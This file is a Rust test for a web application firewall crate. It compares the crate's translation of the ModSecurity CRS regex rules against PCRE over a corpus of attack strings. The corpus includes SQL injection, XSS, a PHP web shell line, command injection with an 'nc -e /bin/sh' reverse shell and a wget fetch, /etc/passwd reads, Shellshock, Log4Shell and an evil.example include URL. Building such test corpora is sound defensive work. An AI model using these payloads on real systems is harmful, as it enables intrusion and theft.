//! Every `@rx` of CRS 3.3.4, as this crate compiled it, against PCRE itself (GNU `grep -P`,
//! which is PCRE2, in the C locale: no UTF, as ModSecurity runs it, with `(?sm)` for
//! ModSecurity's DOTALL + MULTILINE) on a corpus of attack strings and the CRS data files'
//! lines. Any value one engine matches and the other does not is a failure.
//! Skipped (loudly) without the CRS package (unless `CI=true`) or without `grep -P`.

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use gatehouse_waf::evaluate::NoMacros;
use gatehouse_waf::{Operator, RegexEngine, load};

const RULES: &str = "/usr/share/modsecurity-crs/rules";

/// Values worth matching: the attack classes CRS looks for, and the PCRE corners the
/// translation handles (braces, classes with `[`, `\v`, non-ASCII bytes, possessive runs).
const PAYLOADS: &[&[u8]] = &[
    b"' or 1=1--",
    b"1 UNION SELECT password FROM users",
    b"admin'/*",
    b"1; DROP TABLE users",
    b"having 1=1",
    b"having '[='",
    b"x having 'a'='a'",
    b"select * from t where a like '%x' limit 1",
    b"exists select if (1,2)",
    b"execute abc",
    b"create table t (a int)",
    b"a=1 and b between 1 and 2 having c=3 ",
    b"\"' 1 or a=a having d=d",
    b"--\x0b",
    b"--\x85",
    b"a#b\n",
    b";\\x00",
    b"a\xb4b\xe2\x80\x99c\xe2\x80\x98d~!@#$%^&*()-+={}[]|:;\"'<>",
    b"~!@#$%^&*()~!@#$%^&*()~!@#$%^&*()",
    b"<script>alert(1)</script>",
    b"<img src=x onerror=alert(1)>",
    b"javascript:alert(document.cookie)",
    b"{{7*7}}",
    b"{{constructor.constructor('x')()}}",
    b"O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
    b"a:2:{i:0;s:1:\"x\";}",
    b"<?php system($_GET['c']); ?>",
    b"<?xml version=\"1.0\"?>",
    b"<? echo 1 ?>",
    b"; ls -la /etc",
    b"lsb_release -a",
    b"=uname -a",
    b";pwd",
    b"`pwd`",
    b"$(pwd)",
    b"; pacman -S x",
    b"$(cat /etc/passwd)",
    b"${IFS}cat${IFS}/etc/passwd",
    b"() { :; }; echo vulnerable",
    b"| nc -e /bin/sh 10.0.0.1 4444",
    b"`whoami`",
    b"&& wget http://x/y.sh",
    b"cmd.exe /c dir",
    b"powershell -enc AAAA",
    b"function(){ return this.constructor }",
    b"new Function('return 1')",
    b"String.fromCharCode(88,83,83)",
    b"_$$ND_FUNC$$_function(){}",
    b"module.exports = 1",
    b"../../../../etc/passwd",
    b"..%2f..%2fwindows/win.ini",
    b"http://evil.example/shell.txt?",
    b"php://filter/convert.base64-encode/resource=index.php",
    b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    b"text/html ; charset = utf-8",
    // 920600's possessive `\s*+` decides these: a greedy `\s*` would give the space back and
    // let `charset=utf-16` through the generic parameter branch.
    b"text/html; charset=utf-16",
    b"text/html;  charset=utf-8",
    b"text/html,  \tx/y",
    b"*/*;  ;q=0.1",
    b"application/json; charset=\"utf-8\"",
    b"multipart/form-data; boundary=----x",
    b"file&auml;name.txt",
    b"file'name.php",
    b"a=b&c=d",
    b"Mozilla/5.0 (compatible; Nikto/2.1.6)",
    b"sqlmap/1.5",
    b"java.lang.Runtime.getRuntime().exec(\"id\")",
    b"${jndi:ldap://x/a}",
    b"(|(uid=*)(cn=*))",
    b"*)(uid=*))(|(uid=*",
    b"\xff\xfe\x00abc",
    b"\xc0\xaf",
    b"%u0027%uff1c",
    b"",
    b" ",
    b"\n",
    b"normal text with nothing in it",
];

fn grep_works() -> bool {
    Command::new("grep")
        .args(["-P", "-q", "a"])
        .stdin(Stdio::null())
        .status()
        .is_ok_and(|s| s.code().is_some())
}

/// The corpus: payloads, then each data file line, then each payload in upper case and
/// behind a prefix (so anchored and case-sensitive patterns see both).
fn corpus() -> Vec<Vec<u8>> {
    let mut out: Vec<Vec<u8>> = PAYLOADS.iter().map(|p| p.to_vec()).collect();
    out.extend(PAYLOADS.iter().map(|p| p.to_ascii_uppercase()));
    out.extend(PAYLOADS.iter().map(|p| [&b"x=1 "[..], p].concat()));
    let mut data: Vec<PathBuf> = std::fs::read_dir(RULES)
        .expect("rules dir")
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| p.extension().is_some_and(|x| x == "data"))
        .collect();
    data.sort();
    for file in data {
        let text = std::fs::read(&file).expect("data file");
        out.extend(
            text.split(|&b| b == b'\n')
                .filter(|l| !l.is_empty())
                .map(<[u8]>::to_vec),
        );
    }
    out.retain(|v| !v.contains(&0));
    out
}

/// The indices of the values PCRE matches, or None when grep refused the pattern.
fn pcre_matches(pattern: &str, corpus_file: &Path) -> Option<Vec<usize>> {
    let out = Command::new("grep")
        .env("LC_ALL", "C")
        .args(["-P", "-z", "-a", "-n", "--", &format!("(?sm){pattern}")])
        .arg(corpus_file)
        .output()
        .expect("grep runs");
    if out.status.code() == Some(2) {
        eprintln!(
            "grep -P refused {pattern}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        return None;
    }
    let indices = out
        .stdout
        .split(|&b| b == 0)
        .filter(|r| !r.is_empty())
        .filter_map(|r| {
            let colon = r.iter().position(|&b| b == b':')?;
            std::str::from_utf8(&r[..colon]).ok()?.parse::<usize>().ok()
        })
        .map(|n| n - 1)
        .collect();
    Some(indices)
}

#[test]
fn every_crs_rx_matches_what_pcre_matches() {
    if !Path::new(RULES).is_dir() {
        assert!(
            std::env::var("CI").as_deref() != Ok("true"),
            "{RULES} missing under CI=true"
        );
        eprintln!("SKIPPED: {RULES} is missing (apt-get install modsecurity-crs)");
        return;
    }
    if !grep_works() {
        assert!(
            std::env::var("CI").as_deref() != Ok("true"),
            "no `grep -P` to compare with under CI=true"
        );
        eprintln!("SKIPPED: no `grep -P` to compare with");
        return;
    }
    let mut files: Vec<PathBuf> = std::fs::read_dir(RULES)
        .expect("rules dir")
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| p.extension().is_some_and(|x| x == "conf"))
        .collect();
    files.sort();
    let set = load(&files).expect("CRS loads");
    let corpus = corpus();
    let path = std::env::temp_dir().join(format!("gatehouse-waf-corpus-{}", std::process::id()));
    let mut file = std::fs::File::create(&path).expect("corpus file");
    for value in &corpus {
        file.write_all(value)
            .and_then(|()| file.write_all(b"\0"))
            .expect("write");
    }
    drop(file);
    let (mut compared, mut differences) = (0, Vec::new());
    // Patterns PCRE matches on at least one value: the corpus must exercise them, not only
    // agree that nothing matches.
    let mut hit = 0;
    // Translated and backtracking patterns are where this crate departs from the text as
    // written: each must match some value.
    let mut unexercised = Vec::new();
    for link in set.links() {
        let Operator::Rx(_, engine) = &link.operator else {
            continue;
        };
        let Some(expected) = pcre_matches(&link.operator_argument, &path) else {
            continue;
        };
        compared += 1;
        hit += usize::from(!expected.is_empty());
        if expected.is_empty() && *engine != RegexEngine::Regex {
            unexercised.push(format!("{} ({engine:?})", link.at));
        }
        for (i, value) in corpus.iter().enumerate() {
            let ours = link.operator.matches(value, &NoMacros);
            let pcre = expected.binary_search(&i).is_ok();
            if ours != pcre {
                differences.push(format!(
                    "{}: {engine:?}: {:?}: ours {ours}, PCRE {}",
                    link.at,
                    String::from_utf8_lossy(value),
                    !ours
                ));
            }
        }
    }
    let _ = std::fs::remove_file(&path);
    println!(
        "{compared} @rx compared with PCRE on {} values ({hit} match some)",
        corpus.len()
    );
    for d in differences.iter().take(40) {
        println!("DIFF {d}");
    }
    assert!(differences.is_empty(), "{} differences", differences.len());
    assert!(compared >= 260, "only {compared} patterns compared");
    assert!(hit >= 130, "the corpus exercises only {hit} patterns");
    assert!(unexercised.is_empty(), "no value matches {unexercised:#?}");
}
